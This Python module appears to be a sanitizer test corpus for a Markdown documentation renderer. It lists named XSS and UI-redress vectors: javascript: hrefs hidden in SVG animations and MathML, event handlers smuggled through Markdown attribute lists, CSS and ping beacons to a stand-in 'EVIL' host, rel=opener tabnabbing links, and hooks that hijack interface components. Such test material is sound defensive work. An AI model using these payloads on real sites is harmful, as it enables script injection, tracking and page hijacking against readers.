"""Rarer kinds: looks that lines and letters have, drawings that name the interface, lists of attributes where no other vector has one."""

from hostile.payloads import EVIL, IMG, ON, RUN

#: Looks of lines, letters and boxes, in the ways of writing that are not the usual ones.
LOOKS = {
    "stroke": "-webkit-text-stroke: 900px red",
    "underline": "text-decoration: underline 9000px red",
    "underline-far": "text-decoration-line: underline; text-underline-offset: -900px",
    "inline-size": "inline-size: 9999px",
    "block-size": "block-size: 90000px",
    "rule": "columns: 2; column-rule: 900px solid red",
    "font": "font: 900vw/1 x",
    "padding-one": "padding: 1px 900vw",
    "inset-logical": "position: relative; inset-block-start: -900px",
    "inset-inline": "position: relative; inset-inline: -900px auto",
    "margin-trim": "margin: calc(1px - 100vw)",
    "margin-clamp": "margin-top: clamp(-900px, -50vh, 0px)",
    "margin-round": "margin-left: round(down, -899px, 1px)",
    "margin-sin": "margin-left: calc(900px * sin(-90deg))",
    "attached": f"background: fixed url(//{EVIL}/x.png)",
    "prefixed": f"background-image: -webkit-image-set(url(//{EVIL}/x.png) 1x)",
    "type": f"background-image: image-set('//{EVIL}/x.avif' type('image/avif'))",
    "gradient": f"background: linear-gradient(red, red), url(//{EVIL}/x.png)",
    "marker": f"marker: url(//{EVIL}/x.svg#a)",
    "drag": "-webkit-app-region: drag",
    "transition": "transition: all 9s; transition-behavior: allow-discrete",
    "timeline": "scroll-timeline: --x; view-timeline: --y",
    "overlay": "overlay: auto; position-try: --x",
    "move": "offset: path('M 0 0 L -900 -900') 100%",
    "motion": "offset-position: -900px -900px; offset-path: ray(45deg)",
    "initial-letter": "initial-letter: 900",
}

BLOCKS = {
    # drawings that name, copy or change the interface
    "animate-interface": '<svg><animateTransform href="#__toc" attributeName="transform" type="scale" to="9"/></svg>',
    "animate-base": f'<svg><a href="x"><animate attributeName="xml:base" to="//{EVIL}/"/></a></svg>',
    "animate-ping": f'<svg><a href="index.md"><set attributeName="ping" to="//{EVIL}/"/></a></svg>',
    "animate-target": '<svg><a href="index.md"><set attributeName="target" to="_top"/></a></svg>',
    "animate-number": '<svg><a><set attributeName="&#104;ref" to="javascript:1"/></a></svg>',
    "animate-key-times": '<svg><a><animate attributeName="href" keyTimes="0;1" values="#;javascript:1"/></a></svg>',
    "animate-motion-from": f'<svg><animateMotion><mpath xlink:href="//{EVIL}/x#a"/></animateMotion></svg>',
    "foreign-lower": f"<svg><foreignobject>{IMG}</foreignobject></svg>",
    "link-ping": f'<svg><a href="index.md" ping="//{EVIL}/"><text y="9">字</text></a></svg>',
    "link-download": f'<svg><a href="data:text/html,x" download="x.html"><text y="9">{RUN}</text></a></svg>',
    "formula-toggle": f'<math><maction actiontype="toggle" selection="1" onclick={ON}><mi>x</mi><mi>y</mi></maction></math>',
    "formula-link-space": f'<math><mrow href=" java&#9;script:{RUN}"><mi>x</mi></mrow></math>',
    "formula-glyph": f'<math><mo><mglyph src="//{EVIL}/x.png"></mglyph></mo></math>',
    # fields that take what a reader types, and windows that keep the page that opened them
    "field-in-label": '<label><input type="text" name="q">字</label>',
    "field-capture": '<input type="file" capture accept="image/*">',
    "field-date": '<input type="date" name="d">',
    "field-list": '<input list="x" type="search">',
    "field-directory": '<input type="file" webkitdirectory>',
    "field-markdown": '<form markdown action="x">\n\n字\n\n</form>',
    "button-markdown": f"<button markdown onclick={ON}>*字*</button>",
    "area-markdown": "<textarea markdown>\n字\n</textarea>",
    "frame-markdown": f'<iframe markdown src="//{EVIL}/">字</iframe>',
    "drawing-markdown": f'<svg markdown onload={ON}><text y="9">字</text></svg>',
    "opener": f'<a href="https://{EVIL}/" target="_blank" rel="opener">字</a>',
    "opener-list": f"[字](https://{EVIL}/){{ target=_blank rel=opener }}",
    "named-window": f'<a href="https://{EVIL}/" target="__search">字</a>',
    "save-as": f'<a href="data:text/html,x" download="x.html">字 {RUN}</a>',
    # lists of attributes where an extension puts its own element
    "label-of-tab": '=== "甲 <label for=__drawer>字</label>"\n\n    字',
    "field-of-tab": '=== "甲 <input type=checkbox data-md-toggle=search>"\n\n    字',
    "keys-list": f"++ctrl+a++{{ onclick={ON} }}",
    "mark-list": f"==字=={{ onclick={ON} #__toc }}",
    "caret-list": f"^^字^^{{ onmouseover={ON} }}",
    "tilde-list": "~~字~~{ style='position: fixed' }",
    "critic-list": f"{{++字++}}{{ onclick={ON} }} *字*{{ onclick={ON} }}",
    "formula-list": f"$x${{ onclick={ON} }} *字*{{ onclick={ON} }}",
    "note-list": f"字[^1]{{ onclick={ON} }} *字*{{ onclick={ON} }}\n\n[^1]: 注。\n{{: onclick={ON} }}",
    "abbreviation-list": f"HTML{{ onclick={ON} }} *字*{{ onclick={ON} }}\n\n*[HTML]: 名",
    "annotation-list": f"字 (1)\n{{ .annotate onclick={ON} }}\n\n1.  注\n    {{: onmouseover={ON} }}",
    "annotation-hook": "字 (1)\n{ .annotate data-md-annotation-id=1 }\n\n1.  注",
    "icon-list": f":octicons-x-16:{{ .md-overlay }} :smile:{{ title='{IMG.replace(chr(34), '')}' }}",
    "item-hook": "- [x] 字\n    {: data-md-component=toc }",
    "span-handler": f'<p markdown="span" class="ok" onpointerup={ON}>*字*</p>',
    "block-in-span": f'<p markdown="span"><iframe src=//{EVIL}/></iframe></p>',
    "nested-markdown": f'<div markdown><div markdown="0"><p onclick={ON}>字</p></div></div>',
    "raw-attribute": '<div markdown="1" data-md-component="header">\n\n字\n\n</div>',
    "quoted-markdown": f"<div title='markdown=\"1\">' markdown onclick={ON}>\n\n字\n\n</div>",
    "head-cell": f"| 甲 {{: onclick={ON} }} |\n| --- |\n| 字 |\n\n字\n{{: onclick={ON} }}",
    "caption-look": '![字](x.png)\n/// caption\n    attrs: {style: "position: fixed; inset: 0"}\n字\n///',
    "fence-hook": "``` {.python data-md-component=search}\nx\n```",
    "heading-hook": "## 节 { data-md-component=sidebar }\n\n字。",
    "heading-name": "## 节 { name=querySelector }\n\n字。",
}


def rarer_vectors() -> dict[str, str]:
    """Return the bodies by name."""
    looks = {f"look-{name}": f'<p style="{style}">字</p>' for name, style in LOOKS.items()}
    blocks = {f"rare-{name}": body for name, body in BLOCKS.items()}
    return looks | blocks
